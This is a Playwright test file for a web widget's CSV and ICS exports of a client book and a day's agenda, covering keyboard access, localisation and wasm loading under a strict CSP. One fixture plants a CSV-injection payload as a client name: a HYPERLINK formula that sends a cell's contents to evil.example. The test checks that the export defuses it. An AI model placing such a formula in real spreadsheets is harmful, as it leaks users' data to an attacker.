// <touch-plan-book>'s exports (issue 19): the day's agenda and the whole
// book as CSV and ICS, by buttons (mouse and keyboard, ru and en) and by the
// methods toCsv()/toIcs(); a formula in a client's name is defused; the
// exports' wasm loads on the first export only, under the strict CSP.
import { test, expect } from '@playwright/test';
import { readFileSync } from 'node:fs';
import ICAL from 'ical.js';
import Papa from 'papaparse';
import { sampleBook } from '../../www/demo/book-sample.js';

const TODAY = '2026-11-24';
const CSP = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'";
const { clients } = sampleBook({ n: 30, bad: [7] });
const EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")';
clients[0] = { ...clients[0], name: EVIL };

async function openBook(page, lang = 'ru') {
  const html = `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><link rel="icon" href="/favicon.svg">
<script type="module" src="/widget/touch-plan-book-define.js"></script></head><body><button id="before">before</button>
<touch-plan-book today="${TODAY}"></touch-plan-book></body></html>`;
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.route('**/__e2e__/book-export.html', (route) => route.fulfill({
    contentType: 'text/html; charset=utf-8', headers: { 'Content-Security-Policy': CSP }, body: html,
  }));
  await page.goto('/__e2e__/book-export.html');
  await page.waitForFunction(() => customElements.get('touch-plan-book'));
  await page.$eval('touch-plan-book', (el, c) => { el.clients = c; }, clients);
  await page.waitForFunction(() => document.querySelector('touch-plan-book').status === 'ready', null, { timeout: 30_000 });
  return page.$eval('touch-plan-book', (el) => el.book);
}

async function download(page, action) {
  const [file] = await Promise.all([page.waitForEvent('download'), action()]);
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
}

test('ru: the day\'s agenda and the whole book download as CSV and ICS, by click and by keyboard; a formula in a name is defused', async ({ page }) => {
  const requests = [];
  page.on('request', (r) => requests.push(new URL(r.url()).pathname));
  const book = await openBook(page);
  const el = page.locator('touch-plan-book');
  // Nothing of the exports is loaded before the first export.
  const exportFiles = (p) => p.endsWith('/pkg/touchplan_export_bg.wasm') || p.endsWith('/widget/touch-plan-book-export.js');
  expect(requests.filter(exportFiles)).toEqual([]);
  const todays = book.clients.flatMap((c) => (c.touches ?? []).filter((t) => t.date === TODAY && !t.automated));
  const all = book.clients.reduce((n, c) => n + (c.touches?.length ?? 0), 0);

  // The day's agenda, CSV, by a click.
  const dayCsv = await download(page, () => el.locator('[data-download="day-csv"]').click());
  expect(dayCsv.name).toBe(`touchplan-agenda-${TODAY}.csv`);
  expect(dayCsv.text.startsWith('\ufeffКлиент;Менеджер;Дата;Вид касания;Канал;Контакт;Роль;Повод;')).toBe(true);
  const dayRows = Papa.parse(dayCsv.text.slice(1).trimEnd(), { header: true, delimiter: ';' }).data;
  expect(dayRows).toHaveLength(todays.length);
  expect(dayRows.every((r) => r['Дата'] === '24.11.2026' && ['Ирина Белова', 'Павел Громов'].includes(r['Менеджер']))).toBe(true);
  // In the agenda's order: by manager, as Сегодня lists them.
  const shown = await el.locator('.today-view .item').evaluateAll((items) => items.map((i) => i.dataset.client));
  expect(dayRows.map((r) => r.client_id)).toEqual(shown);
  // The method gives the same text.
  expect(await el.evaluate((e) => e.toCsv({ scope: 'day' }))).toBe(dayCsv.text);

  // The whole book, CSV, by keyboard: Tab to the button, Enter.
  await el.locator('[data-download="book-ics"]').focus();
  await page.keyboard.press('Shift+Tab');
  await expect(el.locator('[data-download="book-csv"]')).toBeFocused();
  const bookCsv = await download(page, () => page.keyboard.press('Enter'));
  expect(bookCsv.name).toBe(`touchplan-book-${TODAY}.csv`);
  const rows = Papa.parse(bookCsv.text.slice(1).trimEnd(), { header: true, delimiter: ';' }).data;
  expect(rows).toHaveLength(all);
  const evil = rows.filter((r) => r.client_id === clients[0].id);
  expect(evil.length).toBeGreaterThan(0);
  expect(evil.every((r) => r['Клиент'] === `'${EVIL}`)).toBe(true);
  expect(rows.every((r) => !/^[=+\-@]/.test(r['Клиент']))).toBe(true);

  // The whole book, ICS, by keyboard (Space).
  await el.locator('[data-download="book-ics"]').focus();
  const bookIcs = await download(page, () => page.keyboard.press(' '));
  expect(bookIcs.name).toBe(`touchplan-book-${TODAY}.ics`);
  const calendar = new ICAL.Component(ICAL.parse(bookIcs.text));
  const events = calendar.getAllSubcomponents('vevent');
  expect(events).toHaveLength(all);
  expect(new Set(events.map((e) => e.getFirstPropertyValue('uid'))).size).toBe(all);
  expect(calendar.getFirstPropertyValue('x-wr-calname')).toBe('Книга клиентов');

  // The day's agenda, ICS.
  const dayIcs = await download(page, () => el.locator('[data-download="day-ics"]').click());
  expect(dayIcs.name).toBe(`touchplan-agenda-${TODAY}.ics`);
  expect(new ICAL.Component(ICAL.parse(dayIcs.text)).getAllSubcomponents('vevent')).toHaveLength(todays.length);

  // Another day from the picker: its agenda.
  await el.locator('[data-step="1"]').click();
  const next = await download(page, () => el.locator('[data-download="day-csv"]').click());
  expect(next.name).toBe('touchplan-agenda-2026-11-25.csv');
  expect(Papa.parse(next.text.slice(1).trimEnd(), { header: true, delimiter: ';' }).data.every((r) => r.date === '2026-11-25')).toBe(true);

  // The exports' wasm loaded once, from this site; no CSP violation.
  expect(requests.filter(exportFiles)).toEqual(['/widget/touch-plan-book-export.js', '/pkg/touchplan_export_bg.wasm']);
  expect(await page.evaluate(() => window.__violations)).toEqual([]);
});

test('en: the buttons are named in English; CSV with commas, no byte-order mark; null before a book', async ({ page }) => {
  await page.route('**/__e2e__/empty.html', (route) => route.fulfill({
    contentType: 'text/html; charset=utf-8', headers: { 'Content-Security-Policy': CSP },
    body: '<!doctype html><html lang="en"><script type="module" src="/widget/touch-plan-book-define.js"></script><touch-plan-book></touch-plan-book></html>',
  }));
  await page.goto('/__e2e__/empty.html');
  await page.waitForFunction(() => customElements.get('touch-plan-book'));
  expect(await page.$eval('touch-plan-book', async (e) => [await e.toCsv(), await e.toIcs()])).toEqual([null, null]);

  await openBook(page, 'en');
  const el = page.locator('touch-plan-book');
  await expect(el.locator('[data-download="day-csv"]')).toHaveAccessibleName('Download the day\'s agenda, CSV');
  await expect(el.locator('[data-download="book-ics"]')).toHaveAccessibleName('Download the whole book, ICS calendar');
  await expect(el.locator('[part~="downloads"]')).toContainText('Whole book');
  const csv = await download(page, () => el.locator('[data-download="book-csv"]').click());
  expect(csv.text.startsWith('Client,Manager,Date,Kind,Channel,')).toBe(true);
  const ics = await el.evaluate((e) => e.toIcs({ scope: 'day', day: '2026-11-25' }));
  expect(ics).toContain('X-WR-CALNAME:Agenda 25 November 2026');
});
